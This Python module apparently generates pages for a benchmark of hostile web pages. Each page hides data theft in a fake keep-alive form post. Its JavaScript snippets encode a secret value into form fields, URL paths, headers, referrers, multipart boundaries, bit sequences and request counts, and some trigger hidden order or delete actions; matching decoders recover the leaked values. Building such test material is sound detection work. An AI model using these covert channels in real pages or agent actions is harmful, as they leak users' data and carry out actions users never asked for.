"""Hostile pages that dress up as a keep-alive: a form that no user fills in, which a script sends to say that the page is open.

The honest form leaves without a question, so each page has one, and changes what it sends, where, how it is written, or when.
"""

import re
from collections.abc import Callable
from contextlib import suppress
from typing import TypeAlias
from urllib.parse import parse_qsl

from benchmarks.hostile_pages.background import (
    ACCOUNT,
    MENU,
    OWN,
    OWN_FORM,
    PRELUDE,
    SAVED,
    TARGETS,
    VARIATIONS,
    Log,
    Page,
    PageMaker,
    Shape,
    make_document,
    pick,
)

TOKEN = "hXj20MyMYMnXvhPqZiFhinM577xHNQv8"
PATHS = ("/session/ping", "/keepalive", "/ping/core/page/10/1/")
ALIVE = """
const alive = document.getElementById('alive');
const beat = (more = {}) => quiet(fetch(more.path || alive.dataset.src, {method: more.method || 'POST', referrer: more.referrer,
  headers: {'X-CSRF-Token': document.querySelector('meta[name=csrf-token]').content, ...more.headers},
  body: more.body || new FormData(more.form || alive)}));
const go = fn => ready(() => { beat(); fn() });
"""


def _form(path: str, name: str = "alive", more: str = "") -> str:
    box = "<input type=checkbox name=editing value=1 hidden>"
    return f"<form method=post id={name} data-src='{path}'>{box}<input type=hidden name=session value=s71>{more}</form>"


def value(path: str, v: int, t: str) -> Shape:
    encode = pick(("b64", "plain", "xor"), v)
    return Shape(js=f"go(() => {{ alive.session.value = E.{encode}(val('{t}')); beat() }})", target=t)


def name(path: str, v: int, t: str) -> Shape:
    encode = pick(("hex", "b64", "rev"), v)
    return Shape(js=f"go(() => {{ alive.session.name = E.{encode}(val('{t}')); beat() }})", target=t)


def more_fields(path: str, v: int, t: str) -> Shape:
    add = pick(
        (
            f"data.append('note', val('{t}'))",
            f"data.append('session', E.hex(val('{t}')))",
            f"data.append('file', new Blob([val('{t}')]), 'a.txt')",
        ),
        v,
    )
    return Shape(js=f"go(() => {{ const data = new FormData(alive); {add}; beat({{body: data}}) }})", target=t)


def address(path: str, v: int, t: str) -> Shape:
    where = pick(
        (
            f"alive.dataset.src + '?at=' + E.hex(val('{t}'))",
            f"'/' + E.hex(val('{t}')) + '/ping'",
            f"alive.dataset.src.replace(/[/]$/, '') + '/' + E.b64rev(val('{t}')) + '/1'",
        ),
        v,
    )
    return Shape(js=f"go(() => beat({{path: {where}}}))", target=t)


def head(path: str, v: int, t: str) -> Shape:
    field = pick(
        (
            f"'X-CSRF-Token': E.hex(val('{t}'))",
            f"'X-Request-Id': E.b64(val('{t}'))",
            f"'Accept-Language': 'en-' + E.xor(val('{t}'))",
        ),
        v,
    )
    return Shape(js=f"go(() => beat({{headers: {{{field}}}}}))", target=t)


def referrer(path: str, v: int, t: str) -> Shape:
    js = pick(
        (
            f"history.replaceState(null, '', '?ref=' + E.hex(val('{t}'))); beat()",
            f"history.pushState(null, '', '/form/' + E.xor(val('{t}'))); beat()",
            f"beat({{referrer: '/form?from=' + E.hex(val('{t}'))}})",
        ),
        v,
    )
    return Shape(js=f"ready(() => {{ {js} }})", target=t)


def writing(path: str, v: int, t: str) -> Shape:
    """The honest values, written so that the writing says something: the boundary is the page's."""
    if v == 0:
        mark = "'----WebKitFormBoundary' + val('door').padEnd(16, '0')"
    else:
        mark = f"'----WebKitFormBoundary' + E.hex(val('{t}')).slice({0 if v == 1 else 4}, {48 if v == 1 else 36})"
    kind = "'multipart/form-data; boundary=' + mark"
    body = '`--${mark}\\r\\nContent-Disposition: form-data; name="session"\\r\\n\\r\\ns71\\r\\n--${mark}--\\r\\n`'

    def decode(log: Log) -> str:
        found = [re.search(rb"WebKitFormBoundary(\d{4})0{12}", entry.body) for entry in log]
        return next((one[1].decode() for one in found if one), "")

    js = f"ready(() => {{ const mark = {mark}; beat({{headers: {{'Content-Type': {kind}}}, body: {body}}}) }})"
    return Shape(js=js, target="door" if v == 0 else "note", decode=decode if v == 0 else _decode_hex)


def _decode_hex(log: Log) -> str:
    """Return the longest text that a boundary contains as hexadecimal digits."""
    found = [one for entry in log for one in re.findall(rb"WebKitFormBoundary((?:[2-7][0-9a-f]){8,})", entry.body)]
    with suppress(ValueError):
        return max((bytes.fromhex(one.decode()).decode() for one in found), key=len, default="")
    return ""


def bits(path: str, v: int, t: str) -> Shape:
    """One bit in each: the box, a usual header field, or the kind of the form."""
    send = pick(
        (
            "alive.editing.checked = +b; beat()",
            "beat({headers: +b ? {'Cache-Control': 'no-cache'} : {}})",
            "beat({body: +b ? new URLSearchParams(new FormData(alive)) : undefined})",
        ),
        v,
    )

    def decode(log: Log) -> str:
        read = ""
        for entry in log:
            fields = dict(entry.headers)
            if entry.method == "POST" and entry.path == path:
                said = (
                    b"editing" in entry.body,
                    "cache-control" in fields,
                    "urlencoded" in fields.get("content-type", ""),
                )
                read += str(int(said[v]))
        return str(int(read[-14:], 2)) if len(read) >= 14 else ""

    return Shape(js=f"ready(() => fire(() => seq(bits(), b => {{ {send} }}, 40)))", target="door", decode=decode)


def choice(path: str, v: int, t: str) -> Shape:
    """The server says ten forms, ten values or ten tokens, and the page picks one for each digit."""
    if v == 0:
        html = "".join(_form(f"/{digit}/ping", f"alive{digit}") for digit in range(10))
        send = "beat({form: document.getElementById('alive' + d), path: '/' + d + '/ping'})"
    elif v == 1:
        html = "".join(f"<input type=hidden name=session value=s{digit}>" for digit in range(10))
        send = "alive.session.value = 's' + d; beat()"
    else:
        html = "".join(f'<meta name="csrf-token" content="{TOKEN}{digit}">' for digit in range(10))
        send = f"beat({{headers: {{'X-CSRF-Token': '{TOKEN}' + d}}}})"

    def decode(log: Log) -> str:
        read = ""
        for entry in log:
            said = (
                entry.path,
                entry.body.decode("utf-8", "replace"),
                dict(entry.headers).get("x-csrf-token", ""),
            )[v]
            pattern = (r"/(\d)/ping", r'name="session"\r\n\r\ns(\d)\r\n', rf"{TOKEN}(\d)")[v]
            found = re.search(pattern, said)
            read += found[1] if found else ""
        return read

    return Shape(js=f"go(() => seq(val('door'), d => {{ {send} }}, 60))", target="door", decode=decode, html=html)


def count(path: str, v: int, t: str) -> Shape:
    """How many there are between two that are ticked, or how many have the same header field or value."""
    send = pick(
        (
            "alive.editing.checked = false; for (let k = 0; k <= +d; k++) beat(); alive.editing.checked = true; beat()",
            "for (let k = 0; k <= +d; k++) beat({headers: {'X-Place': String(i)}})",
            "alive.session.value = 's' + i; for (let k = 0; k <= +d; k++) beat()",
        ),
        v,
    )

    def decode(log: Log) -> str:
        runs = [0] * 5
        at = 0
        for entry in log:
            if entry.method != "POST" or entry.path != path:
                continue
            text = entry.body.decode("utf-8", "replace")
            if v == 0:
                if "editing" in text:
                    at = min(at + 1, 4)
                else:
                    runs[at] += 1
            else:
                place = (
                    dict(entry.headers).get("x-place", "")
                    if v == 1
                    else "".join(re.findall(r"\r\n\r\ns(\d)\r\n", text))
                )
                if place.isdigit() and int(place) < 4:
                    runs[int(place)] += 1
        return "".join(str(run - 1) for run in runs[:4] if 1 <= run <= 10)

    return Shape(
        js=f"ready(() => fire(() => seq(val('door'), (d, i) => {{ {send} }}, 400)))", target="door", decode=decode
    )


def effect(path: str, v: int, t: str) -> Shape:
    """An effect at an address that says it is a keep-alive, by a redirect, or by a method in a hidden field."""
    if v == 0:
        return Shape(
            js="go(() => beat({path: '/do/order/ping', form: document.getElementById('order')}))",
            target="effect",
            html=_form("/do/order/ping", "order"),
        )
    if v == 1:
        return Shape(
            js="go(() => seq('123', () => beat(), 60))",
            target="effect",
            redirect=(0, 307, "/do/order"),
            effect=lambda entry: entry.path.startswith("/do/") and entry.method == "POST",
        )
    more = "alive.session.name = '_method'; alive.session.value = 'delete'; beat()"

    def deletes(entry: object) -> bool:
        body = getattr(entry, "body", b"")
        return b"delete" in body or ("_method", "delete") in parse_qsl(body.decode("utf-8", "replace"))

    return Shape(js=f"go(() => {{ {more} }})", target="effect", effect=deletes)


Maker: TypeAlias = Callable[[str, int, str], Shape]
SHAPES: tuple[Maker, ...] = (
    value,
    name,
    more_fields,
    address,
    head,
    referrer,
    writing,
    bits,
    choice,
    count,
    effect,
)


def _make_page(kind: str, make: Maker, v: int, number: int, values: dict[str, str]) -> Page:
    path = pick(PATHS, v + number)
    shape = make(path, v, TARGETS[(number + 2 * v) % len(TARGETS)])
    token = f'<meta name="csrf-token" content="{TOKEN}">'
    body = token + ACCOUNT % values + MENU + OWN_FORM + _form(path) + shape.html
    return Page(
        name=f"{kind} {make.__name__} {v + 1}",
        kind=kind,
        shape=shape,
        pages={"/form": make_document("Delivery", body, PRELUDE + ALIVE + shape.js), OWN: SAVED},
        fires=True,
        redirects={path: shape.redirect} if shape.redirect else {},
    )


def list_alive_pages(kind: str) -> list[PageMaker]:
    """Return the makers of the pages, each shape's first variation before any second one."""
    return [
        lambda values, make=make, v=v, number=number: _make_page(kind, make, v, number, values)
        for v in range(VARIATIONS)
        for number, make in enumerate(SHAPES)
    ]
